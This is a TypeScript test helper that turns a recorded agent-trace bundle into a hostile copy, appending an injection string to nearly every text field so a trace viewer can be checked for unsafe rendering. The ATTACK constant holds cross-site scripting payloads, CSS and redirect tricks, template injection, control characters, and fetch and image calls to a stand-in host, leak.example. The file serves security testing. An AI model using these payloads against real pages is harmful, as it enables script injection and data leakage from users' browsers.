/**
 * A recorded bundle turned hostile: every name, id and text in it also holds what breaks out of
 * a page that is careless in any one place.
 *
 * The same text always becomes the same text, so that everything still refers to what it did.
 *
 * @module
 */

import { join } from "@std/path";

/** What a page that runs any of it sets on its window. */
export const MARK = "rolloutTraceOwned";

/** What is behind every text; steers scripts, styles, templates, links and reading order. */
export const ATTACK = [
  `<script>globalThis.${MARK}=1</script>`,
  `</script><script>globalThis.${MARK}=2;fetch("https://leak.example/s")</script>`,
  `"'><img src=https://leak.example/i onerror="globalThis.${MARK}=3">`,
  `<svg/onload=globalThis.${MARK}=4><iframe srcdoc="<script>parent.${MARK}=5</script>">`,
  `</style><style>*{background:url(https://leak.example/b)}</style>`,
  `<base href=https://leak.example/><meta http-equiv=refresh content=0;url=https://leak.example/>`,
  `<a href="javascript:globalThis.${MARK}=6">x</a> [x](javascript:globalThis.${MARK}=7)`,
  `<!--<script> ]]> --> {{constructor.constructor('globalThis.${MARK}=8')()}} \${${MARK}=9}`,
  "\u202e\u2066evil\u0000\u001b[2J\u200b\ufeff\u2028",
].join(" ");

/** Keys whose words the format knows: with other words there would be nothing to see. */
const KNOWN = new Set([
  "type",
  "status",
  "role",
  "path",
  "phase",
  "channel",
  "kind",
  "tool_name",
  "event_type",
  "raw_event_log",
  "payloads_dir",
]);

/** Writes a hostile likeness of the bundle in `from` to the folder `to`, which is made. */
export function writeHostileBundle(from: string, to: string): string {
  Deno.mkdirSync(join(to, "payloads"), { recursive: true });
  const read = (name: string) => Deno.readTextFileSync(join(from, name));
  const log = read("trace.jsonl").split("\n").filter((line) => line !== "");
  const kept = threadsIn(log);
  const turn = (text: string) =>
    JSON.stringify(hostile(JSON.parse(text), "", kept));
  const write = (name: string, text: string) =>
    Deno.writeTextFileSync(join(to, name), text);
  write("manifest.json", turn(read("manifest.json")));
  write("trace.jsonl", log.map((line) => `${turn(line)}\n`).join(""));
  for (const { name } of Deno.readDirSync(join(from, "payloads"))) {
    write(join("payloads", name), turn(read(join("payloads", name))));
  }
  return to;
}

/** Ids and paths of the threads: with others than known ones the agents would lose each other. */
function threadsIn(log: readonly string[]): ReadonlySet<string> {
  const started = log.map((line) => JSON.parse(line).payload)
    .filter(({ type }) => type === "thread_started");
  return new Set(
    started.flatMap(({ thread_id, agent_path }) => [
      String(thread_id),
      String(agent_path),
    ]),
  );
}

function hostile(
  value: unknown,
  key: string,
  kept: ReadonlySet<string>,
): unknown {
  if (typeof value === "string") {
    if (KNOWN.has(key) || kept.has(value)) return value;
    // Arguments of a tool: JSON inside a text.
    if (/^\{.*\}$/s.test(value) && isJson(value)) {
      return JSON.stringify(hostile(JSON.parse(value), key, kept));
    }
    return value + ATTACK;
  }
  if (typeof value !== "object" || value === null) return value;
  if (Array.isArray(value)) {
    return value.map((each) => hostile(each, key, kept));
  }
  return Object.fromEntries(
    Object.entries(value).map(([name, each]) => [
      name,
      hostile(each, name, kept),
    ]),
  );
}

function isJson(text: string): boolean {
  try {
    JSON.parse(text);
    return true;
  } catch {
    return false;
  }
}
